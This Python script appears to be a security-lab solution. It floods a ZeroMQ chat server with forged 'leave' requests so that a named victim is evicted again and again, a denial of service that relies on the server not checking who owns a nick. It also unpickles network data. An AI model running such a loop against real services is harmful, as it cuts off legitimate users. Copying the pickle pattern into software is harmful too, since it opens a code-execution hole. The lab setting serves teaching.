"""A denial of service: any client may leave any nick, so the victim is
made to leave, again and again.

Written in the lab's style, for the tests of `make grade STEP=dos CMD=...`.
"""

import logging
import os
import pickle
import time

import zmq

HOST = os.environ.get("CHAT_HOST", "localhost")
PORT = int(os.environ.get("CHAT_PORT", "6666"))
VICTIM = os.environ.get("CHAT_VICTIM", "alice")
PAUSE = 0.1


class SimpleDos:
    """Leaves the victim's nick, as if it were its own."""

    def __init__(self, host: str, port: int):
        self._context = zmq.Context()
        self._req = self._context.socket(zmq.REQ)
        self._req.connect(f"tcp://{host}:{port}")

    def send(self, frame: dict) -> dict:
        self._req.send(pickle.dumps(frame))
        return pickle.loads(self._req.recv())

    def evict(self, victim: str):
        while True:
            response = self.send({"type": "leave", "nick": victim})
            logging.info("leave %s: %s", victim, response)
            time.sleep(PAUSE)


if __name__ == "__main__":
    logging.basicConfig(level=logging.INFO)
    SimpleDos(HOST, PORT).evict(VICTIM)
